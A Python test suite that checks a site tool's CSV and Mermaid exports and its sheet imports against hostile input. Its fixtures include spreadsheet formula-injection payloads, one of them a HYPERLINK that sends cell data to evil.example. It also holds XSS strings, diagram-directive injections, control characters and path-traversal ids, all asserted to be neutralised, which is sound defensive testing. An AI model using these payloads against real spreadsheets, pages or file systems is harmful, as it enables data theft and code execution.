"""Hostile inputs and outputs of `cxsite import` and `cxsite export`.

- CSV exports opened in a spreadsheet: no cell of any CSV export starts a formula;
- Mermaid exports: no text can end a label, add a line or configure the diagram
  (Mermaid's own parser checks the result);
- sheets to import: bidi and control characters shown escaped in every message and in
  the YAML written, markup that stays text on pages, oversize and wide files, files in
  other encodings, ids and options that would write outside the project.
"""

from __future__ import annotations

import csv
import io
import os
import re
import time
from pathlib import Path

import pytest
from hostilekit import EPOCH, invoke, snapshot, write_project
from mermaidkit import mermaid_parse

from cxsite.interop.csvout import TRIGGERS
from cxsite.interop.mermaid import label
from cxsite.interop.yamlwrite import dump

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example/?"&A1)',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",
]
NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def _hostile_project(root: Path) -> Path:
    f = FORMULAS
    files = {
        "cxsite.yaml": {"title": "Hostile"},
        "personas/maya.yaml": {
            "name": f[0],
            "role": f[1],
            "goals": [f[2]],
            "demographics": {f[3]: f[0]},
            "psychographics": {f[4]: [f[5]]},
            "evidence": [{"source": "=WEBSERVICE(1)", "url": "@x"}],
        },
        "touchpoints/web.yaml": {
            "name": f[3],
            "channel": "web",
            "phase": "before",
            "owner": f[1],
            "description": "\t=1+1",
            "expectations": ["-x", "=y"],
            "ratings": {"maya": {"importance": 4, "satisfaction": 2}},
        },
        "journeys/buy.yaml": {
            "title": "=Buy",
            "personas": ["maya"],
            "stages": [
                {
                    "name": f[0],
                    "actions": [f[2]],
                    "emotion": -1.5,
                    "touchpoints": ["web"],
                    "pain_points": [{"text": f[1], "severity": "high", "touchpoint": "web"}],
                    "opportunities": [{"text": f[3], "owner": "=owner"}, "'=1+1"],
                }
            ],
        },
    }
    return write_project(root, {rel: dump(data) for rel, data in files.items()})


@pytest.mark.parametrize(
    "args",
    [
        ["touchpoints-csv"],
        ["personas-csv"],
        ["journey-csv", "--journey", "buy"],
        ["backlog-csv"],
        ["pains-csv"],
        ["backlog-csv", "--excel"],
    ],
)
def test_no_csv_export_cell_starts_a_formula(tmp_path: Path, args: list[str]) -> None:
    root = _hostile_project(tmp_path / "p")
    out = tmp_path / "out.csv"
    result = invoke("export", args[0], str(root), "-o", str(out), *args[1:])
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    dangerous = [c for c in cells if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c)]
    assert dangerous == []
    assert any(c.startswith("'=") or c.startswith("'+") for c in cells)  # the payloads are there


def test_exported_formulas_import_back_as_the_text_they_were(tmp_path: Path) -> None:
    root = _hostile_project(tmp_path / "p")
    sheet = tmp_path / "tp.csv"
    assert invoke("export", "touchpoints-csv", str(root), "-o", str(sheet)).exit_code == 0
    before = snapshot(root)
    result = invoke("import", "touchpoints", str(sheet), str(root), "--force")
    assert result.exit_code == 0, result.output
    written = (root / "touchpoints/web.yaml").read_text(encoding="utf-8")
    assert f'name: "{FORMULAS[3]}"' in written
    assert "description: =1+1\n" in written  # cells are trimmed: the leading tab goes
    assert set(snapshot(root)) == set(before)


HOSTILE_LABELS = [
    '%%{init: {"securityLevel": "loose", "theme": "dark"}}%%',
    "}%%\n%%{init: {'theme':'forest'}}%%",
    "a: 5: Mallory\n  section Injected",
    "title Hijacked",
    "section Smuggled",
    "accTitle: stolen",
    "journey",
    "x ; y # z",
    "%% hidden comment",
    "<img src=x onerror=alert(1)>",
    "```\n# heading after a fence",
    "bidi \u202eevil\u202c and \u2066isolates\u2069",
    "line\nbreak and\ttab\r\n",
]


def test_mermaid_labels_cannot_end_or_configure_the_diagram(tmp_path: Path) -> None:
    stages = [
        {"name": f"{i} {text}", "actions": [text, "ok"], "emotion": 1}
        for i, text in enumerate(HOSTILE_LABELS)
    ]
    files = {
        "cxsite.yaml": {"title": "Hostile"},
        "personas/maya.yaml": {"name": "Eve, the %%{init: {}}%% one: #1", "role": "x"},
        "journeys/j.yaml": {"title": HOSTILE_LABELS[0], "personas": ["maya"], "stages": stages},
    }
    root = write_project(tmp_path / "p", {rel: dump(data) for rel, data in files.items()})
    result = invoke("export", "mermaid", str(root), "--journey", "j")
    assert result.exit_code == 0, result.output
    text = result.stdout
    assert "%" not in text and "#" not in text and ";" not in text
    assert "\u202e" not in text and "\t" not in text and "\r" not in text
    parsed = mermaid_parse([text])[0]
    assert parsed["ok"], parsed.get("error")
    assert parsed["config"] == {}
    assert len(parsed["sections"]) == len(HOSTILE_LABELS)
    assert len(parsed["tasks"]) == 2 * len(HOSTILE_LABELS)
    assert parsed["title"] == label(HOSTILE_LABELS[0])
    assert all(t["people"] == ["Eve‚ the ％％｛init꞉ ｛｝｝％％ one꞉ ＃1"] for t in parsed["tasks"])
    assert all(t["score"] == 4 for t in parsed["tasks"])
    # The markdown of every journey: no text closes the ```mermaid fence early.
    whole = invoke("export", "mermaid", str(root)).stdout
    assert whole.count("```") == 2


def test_bidi_and_control_characters_are_escaped_in_messages_and_yaml(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = write_project(tmp_path / "p", {"cxsite.yaml": "title: T\n"})
    monkeypatch.chdir(tmp_path)
    Path("tp.csv").write_text(
        "name,channel,phase,Own\u202eer\nWeb\u202e\x1b[2J,we\u202eb,before,\n", encoding="utf-8"
    )
    result = invoke("import", "touchpoints", "tp.csv", str(root))
    assert result.exit_code == 1
    assert result.stdout == (
        "tp.csv:1:20: error E462: unknown column 'Own\\u202eer' (did you mean 'owner'?)\n"
    )
    Path("tp.csv").write_text(
        "name,channel,phase\nWeb\u202e\x1b[2J,we\u202eb,before\n", encoding="utf-8"
    )
    result = invoke("import", "touchpoints", "tp.csv", str(root))
    assert result.stdout == (
        "tp.csv:2:1: error E467: the cell holds the control character U+001B, which a YAML "
        "file cannot hold: remove it\n"
        "tp.csv:2:10: error E469: unknown channel 'we\\u202eb' (did you mean 'web'?)\n"
    )
    Path("tp.csv").write_text(
        "name,channel,phase\nWeb \u202eshop\u202c,web,before\n", encoding="utf-8"
    )
    result = invoke("import", "touchpoints", "tp.csv", str(root))
    assert result.exit_code == 0
    assert result.stdout == (
        f"Wrote {root}/touchpoints/web-shop.yaml "
        "(row 2; id from the name 'Web \\u202eshop\\u202c')\n"
    )
    written = (root / "touchpoints/web-shop.yaml").read_text(encoding="utf-8")
    assert 'name: "Web \\u202eshop\\u202c"' in written
    assert "\u202e" not in written


def test_markup_in_an_imported_sheet_stays_text_on_the_site(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = write_project(
        tmp_path / "p",
        {
            "cxsite.yaml": "title: T\n",
            "personas/maya.yaml": "name: Maya\nrole: Runner\n",
        },
    )
    monkeypatch.chdir(tmp_path)
    Path("j.csv").write_text(
        "name,actions,pain_points\n"
        '<script>alert(1)</script>,"<img src=x onerror=alert(2)>",'
        '"[x](javascript:alert(3)) [severity: high]"\n',
        encoding="utf-8",
    )
    result = invoke("import", "journey", "j.csv", str(root), "--persona", "maya")
    assert result.exit_code == 0, result.output
    out = tmp_path / "site"
    assert invoke("build", str(root), "-o", str(out), "--no-pdf", "-q").exit_code == 0
    page = (out / "journeys/j.html").read_text(encoding="utf-8")
    assert "<script>alert(1)" not in page and "onerror=alert(2)>" not in page
    assert "javascript:alert(3)" not in page.replace("javascript:alert(3))", "")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_imports_never_write_outside_the_project(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = write_project(
        tmp_path / "p", {"cxsite.yaml": "title: T\n", "personas/maya.yaml": "name: M\nrole: R\n"}
    )
    monkeypatch.chdir(tmp_path)
    Path("j.csv").write_text("name\nA\n", encoding="utf-8")
    result = invoke("import", "journey", "j.csv", str(root), "--persona", "maya", "--id", "../../x")
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: bad journey id '../../x'")
    result = invoke("import", "values", "j.csv", str(root), "--metric", "../x")
    assert result.exit_code == 1 and "unknown metric '../x'" in result.stderr
    Path("tp.csv").write_text("id,name,channel,phase\n../../etc,A,web,before\n", encoding="utf-8")
    result = invoke("import", "touchpoints", "tp.csv", str(root))
    assert result.stdout.startswith("tp.csv:2:1: error E466: '../../etc' is not a valid id")
    # A touchpoints folder that is a symlink to somewhere else: refused, nothing written there.
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    os.symlink(elsewhere, root / "touchpoints")
    Path("tp.csv").write_text("name,channel,phase\nA,web,before\n", encoding="utf-8")
    result = invoke("import", "touchpoints", "tp.csv", str(root))
    assert result.exit_code == 1
    assert "leads outside the project" in result.output
    assert list(elsewhere.iterdir()) == []


def test_oversize_sheet_is_refused_before_reading(tmp_path: Path) -> None:
    root = write_project(tmp_path / "p", {"cxsite.yaml": "title: T\n"})
    big = tmp_path / "big.csv"
    with big.open("wb") as handle:
        handle.truncate(51 * 1024 * 1024)  # sparse: nothing is really written
    result = invoke("import", "touchpoints", str(big), str(root))
    assert result.exit_code == 1
    assert result.stdout == (
        f"{big}:1:1: error E420: the file is 51.0 MB, over the 50 MB limit: split it or "
        "pre-aggregate it into 'values'\n"
    )


def test_a_windows_excel_csv_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = write_project(tmp_path / "p", {"cxsite.yaml": "title: T\n"})
    monkeypatch.chdir(tmp_path)
    Path("tp.csv").write_bytes("name;channel;phase\nCafé crème;store;during\n".encode("cp1252"))
    result = invoke("import", "touchpoints", "tp.csv", str(root))
    assert (
        result.stdout
        == f"Wrote {root}/touchpoints/cafe-creme.yaml (row 2; id from the name 'Café crème')\n"
    )
    assert "name: Café crème\n" in (root / "touchpoints/cafe-creme.yaml").read_text("utf-8")


def test_ten_thousand_columns_stay_readable_and_fast(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = write_project(tmp_path / "p", {"cxsite.yaml": "title: T\n"})
    monkeypatch.chdir(tmp_path)
    header = ",".join(["name", "channel", "phase"] + [f"x{i}" for i in range(10_000)])
    Path("wide.csv").write_text(header + "\nA,web,before\n", encoding="utf-8")
    started = time.perf_counter()
    result = invoke("import", "touchpoints", "wide.csv", str(root))
    elapsed = time.perf_counter() - started
    lines = result.stdout.splitlines()
    assert len(lines) == 10_000  # every unknown column, each at its own character column
    assert lines[0] == "wide.csv:1:20: error E462: unknown column 'x0'"
    assert lines[-1] == "wide.csv:1:58904: error E462: unknown column 'x9999'"
    assert elapsed < 10
    assert EPOCH  # builds in this suite use the fixed date
